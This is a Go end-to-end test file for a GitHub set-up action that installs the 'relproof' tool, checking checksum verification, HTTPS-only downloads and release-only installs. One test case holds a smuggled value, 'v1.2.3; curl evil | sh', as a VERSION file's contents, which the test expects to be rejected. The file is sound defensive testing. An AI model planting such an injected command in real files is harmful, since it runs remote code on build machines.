package e2e

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/pem"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"
)

// The set-up action's release path (actions/lib/install-release.sh): a
// binary is installed only when its SHA-256 is the one the repository
// records for it; a mismatch, a missing line or a failed download leaves
// nothing behind. Served over HTTPS on loopback, as GitHub serves releases.
func TestInstallReleaseChecksTheBinary(t *testing.T) {
	for _, tool := range []string{"bash", "curl", "sha256sum"} {
		if _, err := exec.LookPath(tool); err != nil {
			if os.Getenv("RELPROOF_REQUIRE_CURL") != "" {
				t.Fatalf("%s is not on PATH", tool)
			}
			t.Skipf("skipping: %s is not on PATH (.ci/run installs it)", tool)
		}
	}
	binary := []byte("#!/bin/sh\necho relproof\n")
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/relproof/relproof/releases/download/v1.2.3/relproof_v1.2.3_linux_amd64" {
			http.NotFound(w, r)
			return
		}
		_, _ = w.Write(binary)
	}))
	defer srv.Close()
	dir := t.TempDir()
	ca := filepath.Join(dir, "ca.pem")
	if err := os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}), 0o644); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(binary)
	good := hex.EncodeToString(sum[:])
	asset := "relproof_v1.2.3_linux_amd64"
	url := srv.URL + "/relproof/relproof/releases/download/v1.2.3/" + asset
	script := filepath.Join(repoRoot(t), "actions", "lib", "install-release.sh")

	for _, tc := range []struct {
		name      string
		checksums string // "" for no file
		url       string
		code      int
		says      string
	}{
		{"recorded checksum", good + "  " + asset + "\n" + strings.Repeat("0", 64) + "  relproof_v1.2.3_darwin_arm64\n", url, 0, ""},
		{"binary-mode line", good + " *" + asset + "\n", url, 0, ""},
		{"another binary", strings.Repeat("ab", 32) + "  " + asset + "\n", url, 1, "SHA-256 expected " + strings.Repeat("ab", 32) + " (recorded in"},
		{"no line for the asset", strings.Repeat("0", 64) + "  relproof_v1.2.3_darwin_arm64\n", url, 2, "expected one SHA-256 line for " + asset},
		{"no checksums file", "", url, 2, "expected the release's recorded checksums, found no file"},
		{"download fails", good + "  " + asset + "\n", srv.URL + "/missing", 1, "downloading " + asset},
		{"plain http refused", good + "  " + asset + "\n", strings.Replace(url, "https://", "http://", 1), 1, "downloading " + asset},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := t.TempDir()
			checksums := filepath.Join(d, "v1.2.3.txt")
			if tc.checksums != "" {
				if err := os.WriteFile(checksums, []byte(tc.checksums), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			dest := filepath.Join(d, "bin", "relproof")
			cmd := exec.Command("bash", script, checksums, asset, tc.url, dest)
			cmd.Env = append(os.Environ(), "CURL_CA_BUNDLE="+ca)
			out, err := cmd.CombinedOutput()
			code := 0
			if ee, ok := err.(*exec.ExitError); ok {
				code = ee.ExitCode()
			} else if err != nil {
				t.Fatal(err)
			}
			if code != tc.code || !strings.Contains(string(out), tc.says) {
				t.Fatalf("exit %d, want %d saying %q:\n%s", code, tc.code, tc.says, out)
			}
			got, readErr := os.ReadFile(dest)
			if tc.code == 0 {
				if readErr != nil || string(got) != string(binary) {
					t.Errorf("installed %q (%v), want the release binary", got, readErr)
				}
				if info, err := os.Stat(dest); err != nil || info.Mode().Perm()&0o111 == 0 {
					t.Errorf("installed binary is not executable: %v", info.Mode())
				}
			} else if readErr == nil {
				t.Errorf("a refused download left %s behind", dest)
			}
			if ents, _ := os.ReadDir(filepath.Dir(dest)); tc.code != 0 && len(ents) != 0 {
				t.Errorf("a refused download left files: %v", ents)
			}
		})
	}
}

// The set-up action installs only a release, as the ref it was called at
// records it (release/VERSION, release/checksums/VERSION.txt), and builds
// from source only when asked: its plan step, run as the runner runs it.
func TestSetupInstallsOnlyARelease(t *testing.T) {
	b, err := os.ReadFile(filepath.Join(repoRoot(t), "action.yml"))
	if err != nil {
		t.Fatal(err)
	}
	var a action
	if err := yaml.Unmarshal(b, &a); err != nil {
		t.Fatal(err)
	}
	var plan string
	for _, s := range a.Runs.Steps {
		if s.Name == "Decide how to install relproof" {
			plan = s.Run
		}
	}
	if plan == "" {
		t.Fatal("action.yml has no plan step")
	}
	goMod := "module github.com/relproof/relproof\n\ngo 1.26.8\n"
	for _, tc := range []struct {
		name, ref, fromSource string
		files                 map[string]string
		code                  int
		says                  string // in the output, or the mode
	}{
		{"the major tag at a release", "v1", "false", map[string]string{"release/VERSION": "v1.2.3\n", "release/checksums/v1.2.3.txt": "x"}, 0, "mode=release\nversion=v1.2.3"},
		{"a release's commit", "3f0c9d8e1b2a3f0c9d8e1b2a3f0c9d8e1b2a3f0c", "false", map[string]string{"release/VERSION": "v1.2.3", "release/checksums/v1.2.3.txt": "x"}, 0, "mode=release\nversion=v1.2.3"},
		{"a release tag", "v1.2.3", "false", map[string]string{"release/VERSION": "v1.2.3", "release/checksums/v1.2.3.txt": "x"}, 0, "mode=release\nversion=v1.2.3"},
		{"a release tag at another release's commit", "v1.2.4", "false", map[string]string{"release/VERSION": "v1.2.3", "release/checksums/v1.2.3.txt": "x"}, 2, "release/VERSION at that tag says v1.2.3"},
		{"a branch", "main", "false", nil, 2, "relproof/relproof@main is not a release"},
		{"a release without its checksums", "v1", "false", map[string]string{"release/VERSION": "v1.2.3"}, 2, "release v1.2.3 has no recorded checksums"},
		{"a VERSION that is no version", "v1", "false", map[string]string{"release/VERSION": "v1.2.3; curl evil | sh"}, 2, "release/VERSION at v1: expected vX.Y.Z"},
		{"a later commit, the release's files still in its tree", "main", "false", map[string]string{"release/VERSION": "v1.2.3", "release/checksums/v1.2.3.txt": "x",
			"internal/cli/new.go": "package cli\n"}, 2, "relproof/relproof@main is not release v1.2.3: its source"},
		{"a release whose source is not recorded", "v1", "false", map[string]string{"release/VERSION": "v1.2.3", "release/checksums/v1.2.3.txt": "x", "release/SOURCE": ""}, 2, "is not the one release/SOURCE records"},
		{"a branch, built from source", "main", "true", nil, 0, "mode=source"},
		{"a bad build-from-source", "main", "yes", nil, 2, `input build-from-source: expected "true" or "false", found "yes"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			files := map[string]string{"go.mod": goMod}
			for p, c := range tc.files {
				files[p] = c
			}
			for p, c := range files {
				p = filepath.Join(dir, p)
				if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			// The set-up action hashes its source with the shared script; a
			// release records that hash as it was at the release.
			script, err := os.ReadFile(filepath.Join(repoRoot(t), "actions/lib/source-hash.sh"))
			if err != nil {
				t.Fatal(err)
			}
			if err := os.MkdirAll(filepath.Join(dir, "actions/lib"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(dir, "actions/lib/source-hash.sh"), script, 0o755); err != nil {
				t.Fatal(err)
			}
			if _, ok := tc.files["release/SOURCE"]; !ok && tc.files["release/VERSION"] != "" {
				// Recorded before the later commit's new file, if any.
				probe := t.TempDir()
				if err := os.WriteFile(filepath.Join(probe, "go.mod"), []byte(goMod), 0o644); err != nil {
					t.Fatal(err)
				}
				sum, err := exec.Command("bash", filepath.Join(dir, "actions/lib/source-hash.sh"), probe).Output()
				if err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(dir, "release/SOURCE"), sum, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			out := filepath.Join(dir, "github_output")
			cmd := exec.Command("bash", "-c", plan)
			cmd.Env = append(os.Environ(), "BUILD_FROM_SOURCE="+tc.fromSource, "GO_VERSION_INPUT=", "ACTION_REF="+tc.ref, "ACTION_PATH="+dir,
				"RUNNER_OS_NAME=Linux", "RUNNER_ARCH_NAME=X64", "RUNNER_TEMP="+dir, "GITHUB_OUTPUT="+out)
			log, err := cmd.CombinedOutput()
			code := 0
			if ee, ok := err.(*exec.ExitError); ok {
				code = ee.ExitCode()
			} else if err != nil {
				t.Fatal(err)
			}
			outputs, _ := os.ReadFile(out)
			if code != tc.code || !strings.Contains(string(log)+string(outputs), tc.says) {
				t.Errorf("exit %d, want %d saying %q:\n%s%s", code, tc.code, tc.says, log, outputs)
			}
		})
	}
}
